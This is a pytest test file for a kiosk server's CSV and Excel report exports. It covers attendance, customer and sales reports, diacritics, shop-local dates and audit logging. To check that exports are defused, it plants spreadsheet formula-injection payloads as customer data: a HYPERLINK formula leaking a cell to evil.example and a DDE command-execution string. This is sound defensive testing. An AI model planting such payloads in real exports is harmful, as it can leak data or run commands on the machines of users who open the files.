"""The reports as files, on a planted history: each report's rows right, read back from
the CSV (UTF-8 with BOM) and from the Excel file, every diacritic kept, no customer-entered
text run as a formula by a spreadsheet; bad parameters answered with a code."""

import csv
import io
import uuid
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlmodel import col

from kiosk_server.core.types import utcnow
from kiosk_server.loyalty.models import Purchase
from kiosk_server.reports import exports
from kiosk_server.retention.worker import full_pass
from tests.conftest import open_event_body

# Every Vietnamese letter with a diacritic, and every tone mark.
HANG = "Đặng Thị Ánh Hằng"
AN = "Nguyễn Văn Ẩn Ưu Ỷ Ợ Ễ Ổ Ũ Ẽ Ờ Ộ"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
SUM = "@SUM(A1:A9)"
WALKER = "Võ Thị Ấu"
DDE = "=cmd|' /C calc'!A0"
FORMULAS = {HYPERLINK, SUM, DDE, "+84 hacker", "-1+1"}


@dataclass
class Planted:
    event_id: int
    hang: int
    link: int
    at_sum: int
    erased: int
    walker: int  # came in with their member card, not invited
    day: date  # the shop's day of the first sale (ten days ago); the next one has two

    def dates(self) -> dict[str, str]:
        """From the day before `day` to the day after it."""
        return {"from": (self.day - timedelta(days=1)).isoformat(),
                "to": (self.day + timedelta(days=1)).isoformat()}


def _customer(client, headers, name: str, phone: str, **more) -> int:
    made = client.post("/api/v1/customers", headers=headers,
                       json={"full_name": name, "phone": phone, **more})
    assert made.status_code == 201, made.text
    return made.json()["id"]


def _sale(client, headers, customer_id: int, amount: int, **more) -> int:
    made = client.post(f"/api/v1/customers/{customer_id}/purchases", headers=headers, json={
        "amount_vnd": amount, "request_id": str(uuid.uuid4()), **more})
    assert made.status_code == 201, made.text
    return made.json()["purchase"]["id"]


def _move(db, purchase_id: int, day: date, at: time, zone) -> None:
    """A sale made on the shop's `day` at `at` (its clock), as if in the past."""
    with db.session() as session:
        session.execute(update(Purchase).where(col(Purchase.id) == purchase_id)
                        .values(occurred_at=datetime.combine(day, at, zone)))


def plant(client, db, settings, admin, clerk) -> Planted:
    """Five customers (one erased), an event with three guests (one came in at gate A, one
    invitation cancelled) and a member who walked in at gate B, and sales across a local
    midnight, one with a coupon."""
    h = admin.headers
    hang = _customer(client, h, HANG, "0912000001", email="hang@example.vn", tags=["vip"],
                     notes=DDE)
    link = _customer(client, h, HYPERLINK, "0912000002", notes="+84 hacker")
    at_sum = _customer(client, h, SUM, "0912000003", tags=["-1+1"])
    erased = _customer(client, h, AN, "0912000004")
    walker = _customer(client, h, WALKER, "0912000005")
    event = client.post("/api/v1/events", headers=h,
                        json=open_event_body(name="Ra mắt", allow_walk_in=True))
    event_id = event.json()["id"]
    invited = client.post(f"/api/v1/events/{event_id}/invitations", headers=h,
                          json={"customer_ids": [hang, link, at_sum]}).json()
    scanned = client.post("/api/v1/checkins", headers=h, json={
        "code": invited[0]["code"], "event_id": event_id, "gate": "A"})
    assert scanned.json()["status"] == "ok", scanned.text
    card = client.post(f"/api/v1/customers/{walker}/card", headers=h).json()["code"]
    walked_in = client.post("/api/v1/checkins", headers=h, json={
        "code": card, "event_id": event_id, "gate": "B"})
    assert walked_in.json()["status"] == "ok", walked_in.text
    cancelled = client.delete(f"/api/v1/events/{event_id}/invitations/{invited[2]['id']}",
                              headers=h)
    assert cancelled.status_code == 200, cancelled.text
    coupon = client.post(f"/api/v1/customers/{hang}/coupons", headers=h,
                         json={"benefit": "Giảm 10%"}).json()["code"]
    # 23:30 and, an hour later, 00:30 the next day in Hồ Chí Minh City (UTC+7): one UTC day.
    zone = settings.zone
    day = (utcnow().astimezone(zone) - timedelta(days=10)).date()
    after = day + timedelta(days=1)
    _move(db, _sale(client, h, hang, 500_000, coupon_code=coupon), day, time(23, 30), zone)
    _move(db, _sale(client, h, link, 200_000, served_by=clerk.staff_id), after, time(0, 30),
          zone)
    _move(db, _sale(client, h, hang, 300_000), after, time(17), zone)
    voided = _sale(client, h, link, 900_000)
    _move(db, voided, after, time(18), zone)
    assert client.post(f"/api/v1/purchases/{voided}/void", headers=h,
                       json={"reason": "nhầm"}).status_code == 200
    _sale(client, h, at_sum, 50_000)  # today: in the 90 days' spend, not in the sales
    erase = client.post(f"/api/v1/customers/{erased}/erase", headers=h, json={"confirm": True})
    assert erase.status_code == 200, erase.text
    full_pass(db, zone=settings.zone)
    return Planted(event_id, hang, link, at_sum, erased, walker, day)


@pytest.fixture
def planted(client, db, settings, admin, clerk) -> Planted:
    return plant(client, db, settings, admin, clerk)


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_sheets(data: bytes) -> dict[str, list[list]]:
    """Each sheet's rows; no cell anywhere is a formula."""
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    formulas = [cell for cell in cells if str(cell.value).startswith(("=", "@", "+", "-"))]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formulas)
    return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()]
            for sheet in book}


def _get(client, admin, path: str, **params):
    answer = client.get(f"/api/v1/reports/{path}", headers=admin.headers, params=params)
    assert answer.status_code == 200, answer.text
    return answer


def test_attendance_has_a_row_per_invitation_in_csv_and_excel(client, admin, planted):
    answer = _get(client, admin, "attendance.csv", event_id=planted.event_id)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith(f'attachment; filename="attendance-{planted.event_id}-20')
    assert disposition.endswith('.csv"')
    header, *rows = csv_rows(answer.content)
    assert header == ["Khách", "Điện thoại", "E-mail", "Hạng", "Mời lúc", "Tình trạng",
                      "Check-in lúc", "Cổng", "Khách vãng lai"]
    assert [(r[0], r[1], r[2], r[5], r[7], r[8]) for r in rows] == [
        (HANG, "0912 000 001", "hang@example.vn", "Đã đến", "A", "không"),
        ("'" + HYPERLINK, "0912 000 002", "", "Chưa đến", "", "không"),
        ("'" + SUM, "0912 000 003", "", "Đã huỷ", "", "không"),
        (WALKER, "0912 000 005", "", "Đã đến", "B", "có")]
    assert rows[0][6] and not rows[1][6] and rows[0][3] == "Thành viên"
    assert "+" not in rows[0][4]  # the shop's clock, no zone
    english = _get(client, admin, "attendance.xlsx", event_id=planted.event_id, lang="en")
    assert english.headers["content-disposition"].endswith('.xlsx"')
    [(title, [header, *rows])] = xlsx_sheets(english.content).items()
    assert (title, header[0], header[6]) == ("Attendance", "Guest", "Checked in at")
    assert [(r[0], r[5], r[8]) for r in rows] == [
        (HANG, "Checked in", "no"), (HYPERLINK, "Not arrived", "no"), (SUM, "Cancelled", "no"),
        (WALKER, "Checked in", "yes")]
    assert isinstance(rows[0][6], datetime) and rows[1][6] is None


def test_customers_come_with_their_status_and_reason_and_no_formula(client, admin, planted):
    header, *rows = csv_rows(_get(client, admin, "customers.csv").content)
    assert header[:8] == ["Mã thành viên", "Họ tên", "Điện thoại", "E-mail", "Hạng", "Điểm",
                          "Nhịp ghé", "Lý do"]
    by_id = {int(row[0]): row for row in rows}
    # Everyone but the erased customer.
    assert set(by_id) == {planted.hang, planted.link, planted.at_sum, planted.walker}
    hang = by_id[planted.hang]
    assert hang[1:8] == [HANG, "0912 000 001", "hang@example.vn", "Thành viên", "80",
                         "Khách mới", "mới ghé 1 lần"]
    # Three visits (a check-in, two sales today), on one day: "1 visit so far".
    assert (hang[8], hang[10], hang[12], hang[13]) == ("3", "800000", "vip", "'" + DDE)
    assert by_id[planted.link][1] == "'" + HYPERLINK
    assert by_id[planted.link][13] == "'+84 hacker"
    assert (by_id[planted.at_sum][1], by_id[planted.at_sum][12]) == ("'" + SUM, "'-1+1")
    assert by_id[planted.at_sum][10] == "50000"
    sheets = xlsx_sheets(_get(client, admin, "customers.xlsx", lang="en").content)
    [header, *rows] = sheets["Customers"]
    assert header[6:8] == ["Status", "Reason"]
    by_id = {row[0]: row for row in rows}
    assert by_id[planted.hang][1:8] == [HANG, "0912 000 001", "hang@example.vn",
                                        "Thành viên", 80, "New", "1 visit so far"]
    assert by_id[planted.hang][13] == DDE and by_id[planted.link][1] == HYPERLINK
    assert isinstance(by_id[planted.hang][11], datetime)


def test_a_customer_no_pass_has_reached_has_no_status_yet(client, admin, planted):
    newcomer = _customer(client, admin.headers, AN, "0912000009")
    rows = csv_rows(_get(client, admin, "customers.csv").content)[1:]
    [row] = [row for row in rows if row[0] == str(newcomer)]
    assert (row[1], row[6], row[7], row[8]) == (AN, "", "", "0")


def test_sales_per_day_on_the_shops_calendar_and_per_staff_member(client, admin, planted):
    dates = planted.dates()
    before, day, after = (planted.day + timedelta(days=n) for n in (-1, 0, 1))
    answer = _get(client, admin, "sales.csv", **dates)
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="sales-{before}-{after}.csv"')
    assert csv_rows(answer.content) == [
        ["Ngày", "Số đơn", "Doanh thu (VND)", "Phiếu giảm giá đã dùng"],
        [before.isoformat(), "0", "0", "0"], [day.isoformat(), "1", "500000", "1"],
        [after.isoformat(), "2", "500000", "0"]]
    assert csv_rows(_get(client, admin, "sales_by_staff.csv", **dates).content) == [
        ["Nhân viên", "Số đơn", "Doanh thu (VND)"], ["admin", "2", "800000"],
        ["clerk", "1", "200000"]]
    sheets = xlsx_sheets(_get(client, admin, "sales.xlsx", lang="en", **dates).content)
    assert list(sheets) == ["By day", "By staff member"]
    [header, *days] = sheets["By day"]
    assert header == ["Date", "Sales", "Total (VND)", "Coupons used"]
    assert [(shown.date(), *rest) for shown, *rest in days] == [
        (before, 0, 0, 0), (day, 1, 500_000, 1), (after, 2, 500_000, 0)]
    assert sheets["By staff member"][1:] == [["admin", 2, 800_000], ["clerk", 1, 200_000]]


def test_a_large_table_is_read_a_page_at_a_time(client, admin, planted, monkeypatch):
    monkeypatch.setattr(exports, "PAGE", 1)
    rows = csv_rows(_get(client, admin, "customers.csv").content)[1:]
    assert [int(row[0]) for row in rows] == [planted.hang, planted.link, planted.at_sum,
                                             planted.walker]
    rows = csv_rows(_get(client, admin, "attendance.csv", event_id=planted.event_id).content)
    assert [row[0] for row in rows[1:]] == [HANG, "'" + HYPERLINK, "'" + SUM, WALKER]
    after = (planted.day + timedelta(days=1)).isoformat()
    assert csv_rows(_get(client, admin, "sales.csv", **{"from": after, "to": after}
                         ).content)[1] == [after, "2", "500000", "0"]


@pytest.mark.parametrize(("path", "params", "status", "code"), [
    ("attendance.csv", {"event_id": 999999}, 404, "event_not_found"),
    ("sales.csv", {"from": "2026-11-03", "to": "2026-11-01"}, 400, "dates_out_of_order"),
    ("sales.xlsx", {"from": "2020-01-01", "to": "2026-11-01"}, 400, "range_too_long"),
    ("sales_by_staff.csv", {"from": "2025-11-01", "to": "2026-11-02"}, 400, "range_too_long"),
])
def test_bad_parameters_are_answered_with_a_code(client, admin, path, params, status, code):
    answer = client.get(f"/api/v1/reports/{path}", headers=admin.headers, params=params)
    assert (answer.status_code, answer.json()["error"]["code"]) == (status, code)
    assert answer.json()["error"]["message"]
    assert _downloads(client, admin) == []  # a report refused is not recorded as taken


def _downloads(client, admin) -> list[tuple]:
    log = client.get("/api/v1/audit", headers=admin.headers, params={"kind": "export"})
    assert log.status_code == 200, log.text
    return [(e["staff_id"], e["target_type"], e["target_id"], e["target_label"], e["details"])
            for e in reversed(log.json()["items"]) if e["action"] == "export.report"]


def test_each_download_is_in_the_audit_log_with_who_what_and_which_days(client, admin,
                                                                          planted):
    """Who took the shop's data, in which file, and when: every report downloaded."""
    _get(client, admin, "customers.csv")
    _get(client, admin, "attendance.xlsx", event_id=planted.event_id)
    _get(client, admin, "sales.csv", **{"from": "2026-11-01", "to": "2026-11-03"})
    _get(client, admin, "sales_by_staff.xlsx", **{"from": "2026-11-02", "to": "2026-11-02"})
    me = admin.staff_id
    assert _downloads(client, admin) == [
        (me, "reports", None, None, {"report": "customers", "format": "csv"}),
        (me, "events", planted.event_id, "Ra mắt", {"report": "attendance", "format": "xlsx"}),
        (me, "reports", None, None, {"report": "sales", "format": "csv", "from": "2026-11-01",
                                     "to": "2026-11-03"}),
        (me, "reports", None, None, {"report": "sales_by_staff", "format": "xlsx",
                                     "from": "2026-11-02", "to": "2026-11-02"}),
    ]


@pytest.mark.parametrize(("path", "params"), [
    ("sales.csv", {"from": "yesterday", "to": "2026-11-01"}), ("sales.csv", {}),
    ("attendance.csv", {}), ("attendance.csv", {"event_id": 0}),
    ("customers.pdf", {}), ("customers.csv", {"lang": "fr"}),
])
def test_malformed_parameters_are_refused_as_such(client, admin, path, params):
    answer = client.get(f"/api/v1/reports/{path}", headers=admin.headers, params=params)
    assert answer.status_code in (404, 422), answer.text



def test_a_year_and_a_day_of_sales_is_one_report(client, admin):
    rows = csv_rows(_get(client, admin, "sales.csv", **{"from": "2025-11-01",
                                                      "to": "2026-11-01"}).content)
    assert (len(rows), rows[1][0], rows[-1][0]) == (367, "2025-11-01", "2026-11-01")
